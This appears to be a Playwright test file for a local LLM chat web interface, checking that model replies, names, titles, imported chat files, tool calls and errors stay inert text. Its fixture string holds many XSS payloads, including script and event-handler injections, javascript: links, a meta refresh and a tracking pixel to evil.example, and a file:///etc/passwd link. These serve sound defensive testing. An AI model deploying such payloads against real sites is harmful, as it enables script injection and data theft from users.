"""What a model, a title or a server's names say is text: it makes no elements, runs nothing, asks nobody."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Page, Route, expect
from tests.browser.conftest import Scripted, Visits, say

pytestmark = pytest.mark.browser
ATTACKS = """Before.

<script>window.taken = 1</script> <img src=x onerror="window.taken = 1"> <svg onload="window.taken = 1"></svg>

<iframe srcdoc="<script>parent.taken = 1</script>"></iframe>
<form action="https://evil.example"><button formaction="javascript:taken=1">press</button></form>
<style>* { display: none }</style> <meta http-equiv="refresh" content="0;url=https://evil.example">
<a href="javascript:window.taken=1" id="location" name="body">raw</a>
<math><mtext><style><img src onerror=taken=1></style></mtext></math>

[one](javascript:window.taken=1) [two](JaVaScRiPt:window.taken=1) [three](data:text/html,<script>taken=1</script>)
[four](vbscript:taken) [five]( javascript&colon;taken=1) <javascript:window.taken=1> [six](file:///etc/passwd)
[fine](https://example.com/page "a title")

![picture](https://evil.example/pixel.png?what=was+read) ![x](x" onerror="window.taken=1)

```html" onmouseover="window.taken=1
<script>window.taken = 1</script>
```

```javascript
const taken = "</code></pre><img src=x onerror=window.taken=1>";
```

| <b>a</b> | b |
|---|---|
| <img src=x onerror=taken=1> | [c](javascript:taken=1) |

After.
"""
NAME = '<img src=x onerror="window.taken=1">'


def untouched(page: Page) -> None:
    """Nothing ran, nothing was made that can run or fetch."""
    page.wait_for_timeout(300)
    assert page.evaluate("window.taken === undefined")
    assert page.locator("main :is(script, img, svg, iframe, style, meta, math, object, embed)").count() == 0
    hrefs = page.eval_on_selector_all("main a", "all => all.map(each => each.href)")
    assert [href for href in hrefs if not href.startswith(("http://127.0.0.1", "https://"))] == []
    assert page.evaluate(
        "[...document.querySelectorAll('*')].every(e => [...e.attributes].every(a => !a.name.startsWith('on')))"
    )


def test_an_answer_full_of_attacks_stays_text(scripted: Scripted, visits: Visits) -> None:
    scripted.engine.reply = ATTACKS
    page = visits.open(scripted.url)
    say(page, "Attack")
    expect(page.locator(".message.assistant .figures")).to_contain_text("tokens/s")
    text = page.locator(".message.assistant corral-text")
    expect(text).to_contain_text("After.")
    page.wait_for_selector(".hljs-keyword")
    untouched(page)
    expect(text).to_contain_text('<img src=x onerror="window.taken = 1">')
    links = text.locator("a").evaluate_all("all => all.map(each => [each.textContent, each.getAttribute('href')])")
    assert ["fine", "https://example.com/page"] in links
    assert all(href.startswith("https://") for _, href in links)
    assert text.locator("a").first.get_attribute("rel") == "noopener noreferrer nofollow"


def test_every_prefix_of_an_attack_stays_text_while_it_streams(scripted: Scripted, visits: Visits) -> None:
    page = visits.open(scripted.url)
    page.wait_for_selector(".composer")
    page.evaluate(
        """async (attack) => {
            const element = document.createElement("corral-text");
            document.querySelector("main").append(element);
            element.live = true;
            for (let end = 1; end <= attack.length; end += 7) { element.text = attack.slice(0, end); element.draw(); }
            element.text = attack; element.live = false; element.draw();
        }""",
        ATTACKS,
    )
    untouched(page)


def test_streamed_text_becomes_what_whole_text_becomes(scripted: Scripted, visits: Visits) -> None:
    page = visits.open(scripted.url)
    page.wait_for_selector(".composer")
    sample = (
        ATTACKS
        + "\n1. one\n   - two\n\n   three\n\n[ref]\n\n[ref]: https://example.com/ref\n\nTitle\n===\n\n    code\n"
    )
    pieces, whole = page.evaluate(
        """async (text) => {
            const make = () => document.querySelector("main").appendChild(document.createElement("corral-text"));
            const [a, b] = [make(), make()];
            a.live = true;
            for (let end = 1; end < text.length; end += 3) { a.text = text.slice(0, end); a.draw(); }
            a.text = text; a.live = false; a.draw(); b.text = text; b.draw();
            const strip = (element) => element.innerHTML.replace(/ class="hljs[^"]*"/g, "");
            return [strip(a), strip(b)];
        }""",
        sample,
    )
    assert pieces == whole


def test_names_and_titles_are_text_in_every_room(scripted: Scripted, visits: Visits) -> None:
    def rename(route: Route) -> None:
        body = route.fetch().json()
        for row in body.get("models", []) + body.get("requests", []):
            row["name"] = row["model"] = NAME
            row.setdefault("details", {})["family"] = NAME
            row["warnings"] = [{"code": NAME, "message": NAME}]
        route.fulfill(body=json.dumps(body), content_type="application/json")

    page = visits.open(scripted.url)
    say(page, NAME)
    expect(page.locator(".message.assistant .figures")).to_contain_text("tokens/s")
    untouched(page)
    expect(page.locator("h1")).to_have_text(NAME)
    for path in ("**/api/tags*", "**/api/ps*", "**/api/requests"):
        page.route(path, rename)
    for room in ("models", "now"):
        page.goto(f"{scripted.url}#/{room}")
        expect(page.locator("main")).to_contain_text(NAME)
        untouched(page)


def test_a_strangers_file_of_chats_is_text_and_what_has_another_shape_is_left_out(
    scripted: Scripted, visits: Visits
) -> None:
    about = {"model": "go:latest", "updated": 1, "created": 1, "options": {}}
    message: dict[str, object] = {
        "id": "m",
        "conversation": "one",
        "parent": None,
        "role": "assistant",
        "created": 1,
        "state": "done",
    }
    broken: dict[str, object] = {
        "images": [{}],
        "files": [{"name": 1}],
        "warnings": ["x"],
        "tool_calls": [{}],
        "parent": {},
        "role": "x",
    }
    messages = [message | {"content": ATTACKS}]
    messages += [message | {"id": key, "content": "", key: value} for key, value in broken.items()]
    conversations = [about | {"id": "one", "title": NAME, "leaf": "m"}, about | {"id": "two", "title": 2}]
    conversations += [about | {"id": "three", "title": "3", "tools": "[", "leaf": None}]
    saved = json.dumps({"form": "corral-chats-1", "conversations": conversations, "messages": messages})
    page = visits.open(scripted.url)
    page.wait_for_selector(".composer")
    page.set_input_files(".files input", {"name": "c.json", "mimeType": "", "buffer": saved.encode()})
    expect(page.locator(".list li")).to_have_count(1)
    page.locator(".list li a").click()
    expect(page.locator(".message.assistant")).to_contain_text("After.")
    expect(page.locator(".message")).to_have_count(1)
    untouched(page)
    count = "import(new URL('ui/chat/keep.js', location.href).href).then(k => k.messagesOf('one')).then(Object.keys)"
    assert page.evaluate(count) == ["m"]


def test_a_tool_call_and_an_error_are_text(scripted: Scripted, visits: Visits) -> None:
    visits.allowed = ("Failed to load resource",)
    function = {"name": NAME, "arguments": json.dumps({NAME: NAME})}
    call = {"index": 0, "id": "1", "type": "function", "function": function}
    scripted.engine.chat_deltas = [{"reasoning_content": ATTACKS}, {"tool_calls": [call]}]
    page = visits.open(scripted.url)
    page.wait_for_selector("select option[value='jinja:latest']", state="attached")
    page.select_option(".model select", "jinja:latest")
    say(page, "Go")
    expect(page.locator(".calls")).to_contain_text(NAME)
    untouched(page)
    scripted.engine.error = (500, NAME, "server_error")
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".message.assistant .error")).to_contain_text(NAME)
    untouched(page)


def test_a_huge_table_is_shown_as_text_and_the_page_goes_on(scripted: Scripted, visits: Visits) -> None:
    rows = "".join(f"|{'|'.join(f'{row}.{cell}' for cell in range(40))}|\n" for row in range(1500))
    scripted.engine.reply = f"|{'a|' * 40}\n|{'-|' * 40}\n{rows}"
    page = visits.open(scripted.url)
    say(page, "Table")
    expect(page.locator(".message.assistant .figures")).to_contain_text("tokens/s")
    expect(page.locator(".message.assistant pre.large")).to_contain_text("1499.39")
    assert page.locator("td").count() == 0
    page.fill("#say", "still here")
    assert page.input_value("#say") == "still here"


def test_the_browser_refuses_markup_and_code_made_of_text(scripted: Scripted, visits: Visits) -> None:
    visits.allowed = (
        "This document requires",
        "Refused",
        "Evaluating a string",
        "Executing inline",
        "Applying inline",
        "Loading",
    )
    page = visits.open(scripted.url)
    page.wait_for_selector(".composer")
    tries = page.evaluate(
        """() => [
            () => { document.body.innerHTML = "<b>x</b>"; },
            () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
        ].map((attempt) => {
            try {
                attempt();
                return "made";
            } catch (error) { return error.name; }
        })"""
    )
    assert tries == ["TypeError", "TypeError"]
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            try { script.textContent = "window.taken = 1"; document.head.append(script); } catch { /* that, too */ }
            try { document.body.setAttribute("onclick", "window.taken = 1"); } catch { /* that, too */ }
            document.body.click();
            new Image().src = "https://evil.example/x.png";
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.taken === undefined")
    visits.problems.clear()  # the picture that was refused counts as asked for
